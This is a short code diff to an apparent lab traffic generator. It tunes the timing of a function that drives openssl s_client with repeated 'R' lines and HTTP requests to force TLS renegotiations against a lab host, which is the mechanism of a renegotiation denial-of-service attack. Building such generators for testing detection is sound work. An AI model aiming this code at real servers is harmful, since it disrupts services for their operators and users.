@@ -22,6 +22,8 @@ _REQUEST = b"GET /300 HTTP/1.1\r\nHost: lab.example.net\r\n\r\n"
 _SHORTEST_S = 2.0
 """Time that every connection gets, whatever `reconnects` says."""
 _TOOL_CONNECTS_S = 0.6
+_TOOL_SETTLES_S = 0.25
+"""s_client gives up when an answer arrives while it renegotiates."""
 
 
 def ssl_renegotiation(attack: Attack, report: AttackReport) -> None:
@@ -118,14 +120,16 @@ def _with_tool(attack: Attack, report: AttackReport, rng: random.Random, until: 
             for _ in range(1 + int(attack.settings["onset"]) // 3):  # request, answer, and its ACK
                 tool.stdin.write(_REQUEST)
                 time.sleep(rng.uniform(0.01, 0.03))
+            time.sleep(_TOOL_SETTLES_S)
             lines = 0
             while time.monotonic() < until and report.packets < attack.packets:
                 tool.stdin.write(b"R\n")
                 lines += 1
                 time.sleep(_interval_s(attack, rng))
                 if lines % _quiet_for(attack) == 0:
+                    time.sleep(_TOOL_SETTLES_S)
                     tool.stdin.write(_REQUEST)
-                    time.sleep(rng.uniform(0.01, 0.03))
+                    time.sleep(_TOOL_SETTLES_S)
         except OSError as error:
             entry.error = str(error)
         finally:
